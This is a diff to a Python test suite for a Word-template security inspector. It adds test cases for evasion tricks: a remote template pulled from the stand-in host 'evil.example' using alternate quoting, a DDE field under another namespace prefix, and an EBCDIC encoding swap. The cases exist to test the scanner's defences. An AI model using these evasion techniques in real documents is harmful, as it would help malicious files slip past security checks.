@@ -21,6 +21,7 @@ from diplomacy.paper.inspection import NEEDED, field_names, inspect
 from diplomacy.services.note_templates import approve_template, retire_template, upload_template
 from tests.factories import NoteTemplateFactory, PostFactory, UserFactory
 
+WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 BAD_FIELDS = {
     "{{ nobody }}": "no field “nobody”",
     "{{ number.__class__ }}": "no field “__class__”",
@@ -76,8 +77,9 @@ def with_field(code: str) -> bytes:
     return _saved(document)
 
 
-def outside(kind: str, target: str) -> bytes:
+def outside(kind: str, target: str, quote: str = '"') -> bytes:
     relation = f'<Relationship Id="x1" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="External"/>'
+    relation = relation.replace('"', quote)
     return changed(
         "word/_rels/document.xml.rels", lambda text: text.replace("</Relationships>", relation + "</Relationships>")
     )
@@ -86,6 +88,23 @@ def outside(kind: str, target: str) -> bytes:
 HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
     "macros": (lambda: with_member("word/vbaProject.bin", b"x"), "could run"),
     "embedded file": (lambda: with_member("word/embeddings/oleObject1.bin", b"x"), "could run"),
+    "remote template in other quotes": (
+        lambda: outside("attachedTemplate", "http://evil.example/a.dotm", quote="'"),
+        "fetches something",
+    ),
+    "command under another prefix": (
+        lambda: changed(
+            "word/document.xml",
+            lambda text: text.replace(
+                "<w:sectPr", f'<w:p><x:r xmlns:x="{WORD}"><x:instrText>DDE a b</x:instrText></x:r></w:p><w:sectPr'
+            ),
+        ),
+        "DDE",
+    ),
+    "another encoding": (
+        lambda: changed("word/settings.xml", lambda text: text.replace("UTF-8", "cp037", 1)),
+        "damaged",
+    ),
     "entities": (
         lambda: changed("word/document.xml", lambda text: text.replace("?>", '?><!DOCTYPE a [<!ENTITY b "c">]>', 1)),
         "declares entities",
